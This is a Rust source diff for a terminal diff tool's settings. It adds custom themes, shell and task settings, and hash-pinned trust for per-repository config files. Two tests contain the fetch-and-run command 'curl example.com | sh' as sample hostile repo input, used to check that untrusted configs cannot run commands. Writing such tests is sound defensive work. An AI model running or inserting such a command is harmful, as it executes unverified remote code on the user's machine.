@@ -1,14 +1,21 @@
+use std::collections::BTreeMap;
 use std::env;
+use std::fmt::Write as _;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 use anyhow::{Context, Result, bail};
-use serde::{Deserialize, Serialize};
+use serde::de::IgnoredAny;
+use serde::{Deserialize, Deserializer, Serialize};
+use sha2::{Digest, Sha256};
 
 pub const SIDEBAR_WIDTH_MIN: u16 = 24;
 pub const SIDEBAR_WIDTH_MAX: u16 = 60;
 pub const AUTO_SPLIT_MIN_WIDTH_MIN: u16 = 90;
 pub const AUTO_SPLIT_MIN_WIDTH_MAX: u16 = 220;
+pub const TERMINAL_DOCK_SIZE_MIN: u16 = 20;
+pub const TERMINAL_DOCK_SIZE_MAX: u16 = 80;
+pub const REPO_CONFIG_FILE: &str = ".dif.toml";
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
@@ -64,9 +71,12 @@ pub enum AppTheme {
 }
 
 impl AppTheme {
+    pub fn all() -> [Self; 4] {
+        [Self::Ocean, Self::Eighties, Self::Solarized, Self::Monokai]
+    }
+
     pub fn cycle(self, delta: isize) -> Self {
-        let items = [Self::Ocean, Self::Eighties, Self::Solarized, Self::Monokai];
-        cycle(items, self, delta)
+        cycle(Self::all(), self, delta)
     }
 
     pub fn label(self) -> &'static str {
@@ -79,6 +89,389 @@ impl AppTheme {
     }
 }
 
+/// Whether the palette and syntax colors are the dark or light variant;
+/// `auto` follows the host terminal's background.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ThemeMode {
+    Dark,
+    Light,
+    Auto,
+}
+
+impl ThemeMode {
+    pub fn cycle(self, delta: isize) -> Self {
+        let items = [Self::Dark, Self::Light, Self::Auto];
+        cycle(items, self, delta)
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Dark => "Dark",
+            Self::Light => "Light",
+            Self::Auto => "Auto",
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SidebarSort {
+    Path,
+    ChangeSize,
+    Modified,
+    Status,
+}
+
+impl SidebarSort {
+    pub fn cycle(self, delta: isize) -> Self {
+        let items = [Self::Path, Self::ChangeSize, Self::Modified, Self::Status];
+        cycle(items, self, delta)
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Path => "Path",
+            Self::ChangeSize => "Change Size",
+            Self::Modified => "Last Modified",
+            Self::Status => "Status",
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SidebarGrouping {
+    Directory,
+    TopLevel,
+    Status,
+    Extension,
+}
+
+impl SidebarGrouping {
+    pub fn cycle(self, delta: isize) -> Self {
+        let items = [
+            Self::Directory,
+            Self::TopLevel,
+            Self::Status,
+            Self::Extension,
+        ];
+        cycle(items, self, delta)
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Directory => "Directory Tree",
+            Self::TopLevel => "Top-level Dir",
+            Self::Status => "Status",
+            Self::Extension => "Extension",
+        }
+    }
+}
+
+/// Where the terminal is drawn: a floating overlay, or a pane docked next to
+/// the sidebar and diff so both stay visible.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum TerminalDock {
+    Overlay,
+    Bottom,
+    Right,
+}
+
+impl TerminalDock {
+    pub fn cycle(self, delta: isize) -> Self {
+        let items = [Self::Overlay, Self::Bottom, Self::Right];
+        cycle(items, self, delta)
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Overlay => "Overlay",
+            Self::Bottom => "Bottom Pane",
+            Self::Right => "Right Pane",
+        }
+    }
+
+    pub fn is_docked(self) -> bool {
+        self != Self::Overlay
+    }
+}
+
+/// What dif sends to the host terminal when a hidden tab finishes or rings
+/// the bell.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HostNotify {
+    Off,
+    Bell,
+    Osc9,
+}
+
+impl HostNotify {
+    pub fn cycle(self, delta: isize) -> Self {
+        let items = [Self::Off, Self::Bell, Self::Osc9];
+        cycle(items, self, delta)
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Off => "Off",
+            Self::Bell => "Bell",
+            Self::Osc9 => "OSC 9 Notification",
+        }
+    }
+}
+
+/// One key chord or several under `[keys]`: `stage = "a"` or
+/// `move_down = ["n", "down"]`.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(untagged)]
+pub enum KeyBinding {
+    One(String),
+    Many(Vec<String>),
+}
+
+impl KeyBinding {
+    pub fn keys(&self) -> &[String] {
+        match self {
+            Self::One(key) => std::slice::from_ref(key),
+            Self::Many(keys) => keys,
+        }
+    }
+}
+
+/// An `#rrggbb` (or `#rgb`) color from a `[themes.<name>]` table.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct HexColor(pub u8, pub u8, pub u8);
+
+impl std::str::FromStr for HexColor {
+    type Err = String;
+
+    fn from_str(value: &str) -> std::result::Result<Self, Self::Err> {
+        let digits = value.trim().trim_start_matches('#');
+        let invalid = || format!("`{value}` is not a #rrggbb color");
+        // Checked up front so slicing stays on char boundaries and
+        // `from_str_radix` never sees a sign.
+        if !digits.chars().all(|ch| ch.is_ascii_hexdigit()) {
+            return Err(invalid());
+        }
+        let channel = |hex: &str| u8::from_str_radix(hex, 16).map_err(|_| invalid());
+        match digits.len() {
+            6 => Ok(Self(
+                channel(&digits[0..2])?,
+                channel(&digits[2..4])?,
+                channel(&digits[4..6])?,
+            )),
+            3 => {
+                let short = |idx: usize| channel(&digits[idx..=idx]).map(|value| value * 17);
+                Ok(Self(short(0)?, short(1)?, short(2)?))
+            }
+            _ => Err(invalid()),
+        }
+    }
+}
+
+/// Palette fields a custom theme may set, in the order `ui::palette` lists
+/// them.
+pub const PALETTE_COLOR_NAMES: &[&str] = &[
+    "pane_bg",
+    "meta_bg",
+    "added_bg",
+    "removed_bg",
+    "text",
+    "dim",
+    "line_no",
+    "marker_add",
+    "marker_remove",
+    "marker_context",
+    "border",
+    "border_focus",
+    "selected_bg_focused",
+    "selected_bg_unfocused",
+    "untracked",
+    "footer",
+    "modal_bg",
+    "modal_border",
+    "modal_selected_bg",
+    "status_warn",
+    "status_error",
+];
+
+/// A user palette from `[themes.<name>]`: any palette field as a hex color
+/// on top of a built-in theme, plus an optional syntect `.tmTheme` for code.
+/// Colors stay as written so one bad value only drops that color, not the
+/// whole config.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct CustomTheme {
+    /// The built-in theme unset colors come from; defaults to `theme`.
+    pub inherit: Option<AppTheme>,
+    /// Path to a `.tmTheme`, relative to the config directory unless
+    /// absolute.
+    pub syntax_theme: Option<String>,
+    #[serde(flatten)]
+    pub colors: BTreeMap<String, String>,
+}
+
+impl CustomTheme {
+    /// The colors that parse, by palette field name.
+    pub fn valid_colors(&self) -> impl Iterator<Item = (&str, HexColor)> {
+        self.colors
+            .iter()
+            .filter_map(|(name, value)| Some((name.as_str(), value.parse().ok()?)))
+    }
+
+    pub fn syntax_theme_path(&self) -> Option<PathBuf> {
+        let raw = self.syntax_theme.as_deref()?;
+        let path = PathBuf::from(raw);
+        if path.is_absolute() {
+            return Some(path);
+        }
+
+        match config_dir() {
+            Some(dir) => Some(dir.join(path)),
+            None => Some(path),
+        }
+    }
+}
+
+/// How terminal tabs are launched. Unset fields fall back to `$SHELL` (or a
+/// platform default) started as an interactive shell.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ShellSettings {
+    pub program: Option<String>,
+    pub args: Option<Vec<String>>,
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+    pub initial_command: Option<String>,
+    /// Keep interactive tabs alive in a tmux server after dif exits and
+    /// reattach to them on the next launch.
+    pub persist: Option<bool>,
+}
+
+impl ShellSettings {
+    /// Layers `other` on top of `self`: fields it sets win and its
+    /// environment variables are merged over ours.
+    pub fn overlay(&self, other: &ShellSettings) -> ShellSettings {
+        let mut env = self.env.clone();
+        env.extend(
+            other
+                .env
+                .iter()
+                .map(|(key, value)| (key.clone(), value.clone())),
+        );
+
+        ShellSettings {
+            program: other.program.clone().or_else(|| self.program.clone()),
+            args: other.args.clone().or_else(|| self.args.clone()),
+            env,
+            initial_command: other
+                .initial_command
+                .clone()
+                .or_else(|| self.initial_command.clone()),
+            persist: other.persist.or(self.persist),
+        }
+    }
+
+    /// Whether any field that picks what runs is set: the program, its
+    /// arguments, its environment or the command typed into it.
+    pub fn runs_commands(&self) -> bool {
+        self.program.is_some()
+            || self.args.is_some()
+            || !self.env.is_empty()
+            || self.initial_command.is_some()
+    }
+
+    /// These settings with every field `runs_commands` looks at cleared.
+    pub fn without_commands(&self) -> ShellSettings {
+        ShellSettings {
+            persist: self.persist,
+            ..ShellSettings::default()
+        }
+    }
+}
+
+/// Where terminal scrollback exports and session logs go. A relative `dir` is
+/// resolved against the repo root; unset, files land in the per-user state
+/// directory (`$XDG_STATE_HOME/dif`, else `~/.local/state/dif`).
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct TranscriptSettings {
+    pub dir: Option<String>,
+    pub log_sessions: bool,
+}
+
+impl TranscriptSettings {
+    /// The configured `dir`, if one is set.
+    pub fn configured_dir(&self, repo_root: &Path) -> Option<PathBuf> {
+        match self.dir.as_deref().map(str::trim) {
+            Some(dir) if !dir.is_empty() => Some(repo_root.join(dir)),
+            _ => None,
+        }
+    }
+
+    /// The configured `dir`, else the state directory, else `<tmp>/dif`.
+    /// Only the first is the user's choice; dif keeps the others private.
+    pub fn resolve_dir(&self, repo_root: &Path) -> PathBuf {
+        self.configured_dir(repo_root)
+            .or_else(state_dir)
+            .unwrap_or_else(|| env::temp_dir().join("dif"))
+    }
+}
+
+/// The subset of settings a repository may override from its own
+/// `.dif.toml`.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct RepoConfig {
+    pub shell: ShellSettings,
+    pub tasks: BTreeMap<String, String>,
+    /// Hex SHA-256 of the file this was read from; trust is pinned to it.
+    #[serde(skip)]
+    pub sha256: String,
+}
+
+impl RepoConfig {
+    /// Whether the file asks to run anything, shell settings or tasks, which
+    /// it may only do once the repo is trusted.
+    pub fn runs_commands(&self) -> bool {
+        self.shell.runs_commands() || !self.tasks.is_empty()
+    }
+}
+
+/// A repository whose `.dif.toml` was reviewed and trusted as it read then.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TrustedRepo {
+    /// Canonical root, as returned by `repo_trust_key`.
+    pub path: String,
+    /// Hex SHA-256 of the trusted `.dif.toml`; any edit asks again.
+    pub config_sha256: String,
+}
+
+/// Reads `trusted_repos`, dropping bare paths saved before entries carried
+/// the file's hash; those repos are asked about again.
+fn deserialize_trusted_repos<'de, D: Deserializer<'de>>(
+    deserializer: D,
+) -> Result<Vec<TrustedRepo>, D::Error> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum Entry {
+        Pinned(TrustedRepo),
+        Bare(IgnoredAny),
+    }
+
+    let entries = Vec::<Entry>::deserialize(deserializer)?;
+    Ok(entries
+        .into_iter()
+        .filter_map(|entry| match entry {
+            Entry::Pinned(repo) => Some(repo),
+            Entry::Bare(_) => None,
+        })
+        .collect())
+}
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(default)]
 pub struct AppSettings {
@@ -88,7 +481,40 @@ pub struct AppSettings {
     pub sidebar_width: u16,
     pub auto_split_min_width: u16,
     pub theme: AppTheme,
+    /// Name of a `[themes]` entry to use instead of `theme`.
+    pub custom_theme: Option<String>,
+    pub theme_mode: ThemeMode,
+    /// Soft-wrap long diff lines instead of scrolling sideways.
+    pub wrap_lines: bool,
     pub confirm_undo_to_mainline: bool,
+    pub sidebar_sort: SidebarSort,
+    pub sidebar_grouping: SidebarGrouping,
+    pub terminal_dock: TerminalDock,
+    pub terminal_dock_size: u16,
+    pub host_notify: HostNotify,
+    /// Opt into the kitty keyboard protocol, both from the host terminal and
+    /// for programs in the terminal tabs that request it.
+    pub kitty_keyboard: bool,
+    pub shell: ShellSettings,
+    pub transcripts: TranscriptSettings,
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub tasks: BTreeMap<String, String>,
+    /// Action name to key chord(s), replacing that action's default keys.
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub keys: BTreeMap<String, KeyBinding>,
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub themes: BTreeMap<String, CustomTheme>,
+    /// Glob (`*.tsx`, `Justfile`) to the syntax name or extension used to
+    /// highlight matching files, ahead of the file's own extension.
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub syntaxes: BTreeMap<String, String>,
+    /// Repositories whose `.dif.toml` may choose the shell, its arguments,
+    /// environment, initial command and tasks, while the file is unchanged.
+    #[serde(
+        skip_serializing_if = "Vec::is_empty",
+        deserialize_with = "deserialize_trusted_repos"
+    )]
+    pub trusted_repos: Vec<TrustedRepo>,
 }
 
 impl Default for AppSettings {
@@ -100,7 +526,23 @@ impl Default for AppSettings {
             sidebar_width: 34,
             auto_split_min_width: 140,
             theme: AppTheme::Ocean,
+            custom_theme: None,
+            theme_mode: ThemeMode::Dark,
+            wrap_lines: false,
             confirm_undo_to_mainline: true,
+            sidebar_sort: SidebarSort::Path,
+            sidebar_grouping: SidebarGrouping::Directory,
+            terminal_dock: TerminalDock::Overlay,
+            terminal_dock_size: 40,
+            host_notify: HostNotify::Off,
+            kitty_keyboard: false,
+            shell: ShellSettings::default(),
+            transcripts: TranscriptSettings::default(),
+            tasks: BTreeMap::new(),
+            keys: BTreeMap::new(),
+            themes: BTreeMap::new(),
+            syntaxes: BTreeMap::new(),
+            trusted_repos: Vec::new(),
         }
     }
 }
@@ -113,6 +555,103 @@ impl AppSettings {
         self.auto_split_min_width = self
             .auto_split_min_width
             .clamp(AUTO_SPLIT_MIN_WIDTH_MIN, AUTO_SPLIT_MIN_WIDTH_MAX);
+        self.terminal_dock_size = self
+            .terminal_dock_size
+            .clamp(TERMINAL_DOCK_SIZE_MIN, TERMINAL_DOCK_SIZE_MAX);
+    }
+
+    /// The `[themes]` entry picked by `custom_theme`, when it exists.
+    pub fn active_custom_theme(&self) -> Option<(&str, &CustomTheme)> {
+        let name = self.custom_theme.as_deref()?;
+        self.themes
+            .get_key_value(name)
+            .map(|(name, theme)| (name.as_str(), theme))
+    }
+
+    /// The built-in theme colors start from: the custom theme's `inherit`,
+    /// or `theme`.
+    pub fn base_theme(&self) -> AppTheme {
+        self.active_custom_theme()
+            .and_then(|(_, custom)| custom.inherit)
+            .unwrap_or(self.theme)
+    }
+
+    pub fn theme_label(&self) -> String {
+        match self.active_custom_theme() {
+            Some((name, _)) => name.to_owned(),
+            None => self.theme.label().to_owned(),
+        }
+    }
+
+    /// Steps through the built-in themes followed by the `[themes]` entries.
+    pub fn cycle_theme(&mut self, delta: isize) {
+        let builtin = AppTheme::all();
+        let names = self.themes.keys().cloned().collect::<Vec<_>>();
+        let len = (builtin.len() + names.len()) as isize;
+        let current = match self.active_custom_theme() {
+            Some((name, _)) => builtin.len() + names.iter().position(|n| n == name).unwrap_or(0),
+            None => builtin
+                .iter()
+                .position(|theme| *theme == self.theme)
+                .unwrap_or(0),
+        };
+
+        let next = (current as isize + delta).rem_euclid(len) as usize;
+        match builtin.get(next) {
+            Some(theme) => {
+                self.theme = *theme;
+                self.custom_theme = None;
+            }
+            None => self.custom_theme = Some(names[next - builtin.len()].clone()),
+        }
+    }
+
+    /// Whether `repo_key` was trusted with its `.dif.toml` hashing to
+    /// `config_sha256`. An edited file is untrusted until reviewed again.
+    pub fn is_repo_trusted(&self, repo_key: &str, config_sha256: &str) -> bool {
+        self.trusted_repos
+            .iter()
+            .any(|trusted| trusted.path == repo_key && trusted.config_sha256 == config_sha256)
+    }
+
+    /// Whether `repo_key` was trusted for a `.dif.toml` that has since changed.
+    pub fn repo_config_changed(&self, repo_key: &str, config_sha256: &str) -> bool {
+        self.trusted_repos
+            .iter()
+            .any(|trusted| trusted.path == repo_key && trusted.config_sha256 != config_sha256)
+    }
+
+    /// Trusts `repo_key` for the `.dif.toml` hashing to `config_sha256`,
+    /// replacing any earlier entry, or forgets the repo entirely.
+    pub fn set_repo_trusted(&mut self, repo_key: &str, config_sha256: &str, trusted: bool) {
+        self.trusted_repos.retain(|known| known.path != repo_key);
+        if trusted {
+            self.trusted_repos.push(TrustedRepo {
+                path: repo_key.to_owned(),
+                config_sha256: config_sha256.to_owned(),
+            });
+        }
+    }
+
+    /// Unknown palette fields, colors that are not hex, and a `custom_theme`
+    /// with no `[themes]` entry.
+    pub fn theme_problems(&self) -> Vec<String> {
+        let mut problems = Vec::new();
+        if let Some(name) = self.custom_theme.as_deref()
+            && !self.themes.contains_key(name)
+        {
+            problems.push(format!("custom_theme `{name}` is not defined"));
+        }
+        for (name, theme) in &self.themes {
+            for (field, value) in &theme.colors {
+                if !PALETTE_COLOR_NAMES.contains(&field.as_str()) {
+                    problems.push(format!("{name}: unknown color `{field}`"));
+                } else if let Err(error) = value.parse::<HexColor>() {
+                    problems.push(format!("{name}: {field}: {error}"));
+                }
+            }
+        }
+        problems
     }
 }
 
@@ -134,6 +673,37 @@ pub fn load() -> Result<AppSettings> {
     Ok(settings)
 }
 
+/// Reads the `[shell]` and `[tasks]` overrides from `<repo>/.dif.toml`; a
+/// missing file yields an empty config.
+pub fn load_repo_config(repo_root: &Path) -> Result<RepoConfig> {
+    let path = repo_root.join(REPO_CONFIG_FILE);
+    if !path.exists() {
+        return Ok(RepoConfig::default());
+    }
+
+    let raw = fs::read_to_string(&path)
+        .with_context(|| format!("failed to read repo config at `{}`", path.display()))?;
+    let mut config: RepoConfig = toml::from_str(&raw)
+        .with_context(|| format!("failed to parse repo config at `{}`", path.display()))?;
+    config.sha256 = Sha256::digest(raw.as_bytes())
+        .iter()
+        .fold(String::new(), |mut hex, byte| {
+            let _ = write!(hex, "{byte:02x}");
+            hex
+        });
+
+    Ok(config)
+}
+
+/// The key a repository is trusted under: its canonical root, so symlinks
+/// and relative launches agree.
+pub fn repo_trust_key(repo_root: &Path) -> String {
+    fs::canonicalize(repo_root)
+        .unwrap_or_else(|_| repo_root.to_path_buf())
+        .to_string_lossy()
+        .into_owned()
+}
+
 pub fn save(settings: &AppSettings) -> Result<PathBuf> {
     let Some(path) = config_file_path() else {
         bail!("unable to determine config path; set HOME or XDG_CONFIG_HOME");
@@ -165,6 +735,32 @@ pub fn config_file_path() -> Option<PathBuf> {
     )
 }
 
+/// The directory holding `config.toml`, `.tmTheme` files and `syntaxes/`.
+pub fn config_dir() -> Option<PathBuf> {
+    config_file_path().and_then(|path| path.parent().map(Path::to_path_buf))
+}
+
+/// Extra `.sublime-syntax` files are loaded from here at startup.
+pub fn syntaxes_dir() -> Option<PathBuf> {
+    config_dir().map(|dir| dir.join("syntaxes"))
+}
+
+/// Per-user state such as terminal transcripts.
+pub fn state_dir() -> Option<PathBuf> {
+    state_dir_from_env(
+        env::var_os("XDG_STATE_HOME").map(PathBuf::from),
+        env::var_os("HOME").map(PathBuf::from),
+    )
+}
+
+fn state_dir_from_env(xdg_state_home: Option<PathBuf>, home: Option<PathBuf>) -> Option<PathBuf> {
+    if let Some(xdg) = xdg_state_home.filter(|path| path.is_absolute()) {
+        return Some(xdg.join("dif"));
+    }
+
+    home.map(|home| home.join(".local").join("state").join("dif"))
+}
+
 fn config_file_path_from_env(
     xdg_config_home: Option<PathBuf>,
     home: Option<PathBuf>,
@@ -196,11 +792,14 @@ fn cycle_slice<T: Copy + Eq>(items: &[T], current: T, delta: isize) -> T {
 
 #[cfg(test)]
 mod tests {
+    use std::fs;
     use std::path::PathBuf;
 
     use super::{
-        AUTO_SPLIT_MIN_WIDTH_MAX, AUTO_SPLIT_MIN_WIDTH_MIN, AppSettings, SIDEBAR_WIDTH_MAX,
-        SIDEBAR_WIDTH_MIN, config_file_path_from_env,
+        AUTO_SPLIT_MIN_WIDTH_MAX, AUTO_SPLIT_MIN_WIDTH_MIN, AppSettings, AppTheme, HexColor,
+        REPO_CONFIG_FILE, SIDEBAR_WIDTH_MAX, SIDEBAR_WIDTH_MIN, ShellSettings,
+        TERMINAL_DOCK_SIZE_MAX, TERMINAL_DOCK_SIZE_MIN, TranscriptSettings,
+        config_file_path_from_env, load_repo_config, repo_trust_key, state_dir_from_env,
     };
 
     #[test]
@@ -208,6 +807,7 @@ mod tests {
         let mut settings = AppSettings {
             sidebar_width: SIDEBAR_WIDTH_MAX + 30,
             auto_split_min_width: AUTO_SPLIT_MIN_WIDTH_MIN.saturating_sub(20),
+            terminal_dock_size: TERMINAL_DOCK_SIZE_MAX + 10,
             ..AppSettings::default()
         };
 
@@ -215,13 +815,215 @@ mod tests {
 
         assert_eq!(settings.sidebar_width, SIDEBAR_WIDTH_MAX);
         assert_eq!(settings.auto_split_min_width, AUTO_SPLIT_MIN_WIDTH_MIN);
+        assert_eq!(settings.terminal_dock_size, TERMINAL_DOCK_SIZE_MAX);
 
         settings.sidebar_width = SIDEBAR_WIDTH_MIN.saturating_sub(5);
         settings.auto_split_min_width = AUTO_SPLIT_MIN_WIDTH_MAX + 30;
+        settings.terminal_dock_size = 0;
         settings.normalize();
 
         assert_eq!(settings.sidebar_width, SIDEBAR_WIDTH_MIN);
         assert_eq!(settings.auto_split_min_width, AUTO_SPLIT_MIN_WIDTH_MAX);
+        assert_eq!(settings.terminal_dock_size, TERMINAL_DOCK_SIZE_MIN);
+    }
+
+    #[test]
+    fn repo_shell_overrides_fields_and_merges_env() {
+        let global: ShellSettings = toml::from_str(
+            r#"
+            program = "/bin/zsh"
+            args = ["-l"]
+            initial_command = "agent --watch"
+            env = { EDITOR = "vim", TERM_PROGRAM = "dif" }
+            "#,
+        )
+        .expect("global shell settings should parse");
+        let repo: ShellSettings = toml::from_str(
+            r#"
+            program = "/bin/bash"
+            env = { EDITOR = "nano" }
+            "#,
+        )
+        .expect("repo shell settings should parse");
+
+        let merged = global.overlay(&repo);
+
+        assert_eq!(merged.program.as_deref(), Some("/bin/bash"));
+        assert_eq!(merged.args, Some(vec![String::from("-l")]));
+        assert_eq!(merged.initial_command.as_deref(), Some("agent --watch"));
+        assert_eq!(merged.env.get("EDITOR").map(String::as_str), Some("nano"));
+        assert_eq!(
+            merged.env.get("TERM_PROGRAM").map(String::as_str),
+            Some("dif")
+        );
+    }
+
+    #[test]
+    fn untrusted_repo_shell_keeps_no_commands() {
+        let repo: ShellSettings = toml::from_str(
+            r#"
+            program = "/bin/bash"
+            args = ["-c", "curl example.com | sh"]
+            persist = true
+            "#,
+        )
+        .expect("repo shell settings should parse");
+
+        assert!(repo.runs_commands());
+        let untrusted = repo.without_commands();
+        assert!(!untrusted.runs_commands());
+        assert_eq!(untrusted.persist, Some(true));
+
+        let mut settings = AppSettings::default();
+        settings.set_repo_trusted("/work/repo", "aa", true);
+        settings.set_repo_trusted("/work/repo", "aa", true);
+        assert_eq!(settings.trusted_repos.len(), 1);
+        assert!(settings.is_repo_trusted("/work/repo", "aa"));
+        assert!(!settings.is_repo_trusted("/work/other", "aa"));
+        settings.set_repo_trusted("/work/repo", "aa", false);
+        assert!(!settings.is_repo_trusted("/work/repo", "aa"));
+    }
+
+    #[test]
+    fn editing_the_repo_config_drops_trust() {
+        let temp = tempfile::tempdir().expect("temp dir should be created");
+        let write = |text: &str| {
+            fs::write(temp.path().join(REPO_CONFIG_FILE), text).expect("write should succeed");
+            load_repo_config(temp.path()).expect("repo config should load")
+        };
+        let key = repo_trust_key(temp.path());
+        let mut settings = AppSettings::default();
+
+        let reviewed = write("[tasks]\ntest = \"cargo test\"\n");
+        settings.set_repo_trusted(&key, &reviewed.sha256, true);
+        assert!(settings.is_repo_trusted(&key, &reviewed.sha256));
+        assert!(!settings.repo_config_changed(&key, &reviewed.sha256));
+
+        let pulled = write("[tasks]\ntest = \"curl example.com | sh\"\n");
+        assert_ne!(pulled.sha256, reviewed.sha256);
+        assert!(!settings.is_repo_trusted(&key, &pulled.sha256));
+        assert!(settings.repo_config_changed(&key, &pulled.sha256));
+
+        // Trust saved before entries were pinned to a hash no longer counts.
+        let legacy: AppSettings =
+            toml::from_str(&format!("trusted_repos = [{key:?}]")).expect("settings should parse");
+        assert!(legacy.trusted_repos.is_empty());
+    }
+
+    #[test]
+    fn custom_themes_parse_hex_colors_and_cycle_after_builtins() {
+        let mut settings: AppSettings = toml::from_str(
+            r##"
+            theme = "monokai"
+            custom_theme = "contrast"
+
+            [themes.contrast]
+            inherit = "solarized"
+            syntax_theme = "contrast.tmTheme"
+            text = "#FFFFFF"
+            border_focus = "#fd0"
+            bordr = "#000000"
+            "##,
+        )
+        .expect("custom theme should parse");
+
+        let (name, custom) = settings.active_custom_theme().expect("theme is active");
+        assert_eq!(name, "contrast");
+        let colors = custom.valid_colors().collect::<Vec<_>>();
+        assert!(colors.contains(&("text", HexColor(255, 255, 255))));
+        assert!(colors.contains(&("border_focus", HexColor(255, 221, 0))));
+        assert_eq!(settings.base_theme(), AppTheme::Solarized);
+        assert_eq!(
+            settings.theme_problems(),
+            ["contrast: unknown color `bordr`"]
+        );
+
+        let saved = toml::to_string(&settings).expect("settings should serialize");
+        assert!(saved.contains("text = \"#FFFFFF\""));
+
+        settings.cycle_theme(1);
+        assert_eq!(settings.custom_theme, None);
+        assert_eq!(settings.theme, AppTheme::Ocean);
+        settings.cycle_theme(-1);
+        assert_eq!(settings.theme_label(), "contrast");
+        settings.cycle_theme(-1);
+        assert_eq!(settings.theme_label(), "Monokai");
+    }
+
+    #[test]
+    fn hex_colors_reject_non_ascii_and_signs() {
+        let parse = |value: &str| value.parse::<HexColor>();
+
+        assert_eq!(parse(" #0a0B0c "), Ok(HexColor(10, 11, 12)));
+        assert!(parse("#éf").is_err());
+        assert!(parse("#aéabc").is_err());
+        assert!(parse("#+f+f+f").is_err());
+        assert!(parse("#+ff").is_err());
+    }
+
+    #[test]
+    fn a_bad_theme_color_only_skips_that_color() {
+        let settings: AppSettings = toml::from_str(
+            r##"
+            custom_theme = "contrast"
+            trusted_repos = [{ path = "/work/repo", config_sha256 = "aa" }]
+
+            [themes.contrast]
+            text = "#12345"
+            border = "#fff"
+            "##,
+        )
+        .expect("a bad color should not fail the whole config");
+
+        assert!(settings.is_repo_trusted("/work/repo", "aa"));
+        let (_, custom) = settings.active_custom_theme().expect("theme is active");
+        assert_eq!(
+            custom.valid_colors().collect::<Vec<_>>(),
+            [("border", HexColor(255, 255, 255))]
+        );
+        assert_eq!(
+            settings.theme_problems(),
+            ["contrast: text: `#12345` is not a #rrggbb color"]
+        );
+    }
+
+    #[test]
+    fn transcript_dir_is_repo_relative_or_per_user_state() {
+        let repo = PathBuf::from("/work/repo");
+        let relative = TranscriptSettings {
+            dir: Some(String::from("target/transcripts")),
+            ..TranscriptSettings::default()
+        };
+        let absolute = TranscriptSettings {
+            dir: Some(String::from("/var/log/dif")),
+            ..TranscriptSettings::default()
+        };
+
+        assert_eq!(
+            relative.resolve_dir(&repo),
+            repo.join("target").join("transcripts")
+        );
+        assert_eq!(absolute.resolve_dir(&repo), PathBuf::from("/var/log/dif"));
+        assert_eq!(TranscriptSettings::default().configured_dir(&repo), None);
+        assert_eq!(
+            state_dir_from_env(
+                Some(PathBuf::from("/tmp/state")),
+                Some(PathBuf::from("/tmp/home"))
+            ),
+            Some(PathBuf::from("/tmp/state").join("dif"))
+        );
+        assert_eq!(
+            state_dir_from_env(
+                Some(PathBuf::from("relative")),
+                Some(PathBuf::from("/tmp/home"))
+            ),
+            Some(
+                PathBuf::from("/tmp/home")
+                    .join(".local")
+                    .join("state")
+                    .join("dif")
+            )
+        );
     }
 
     #[test]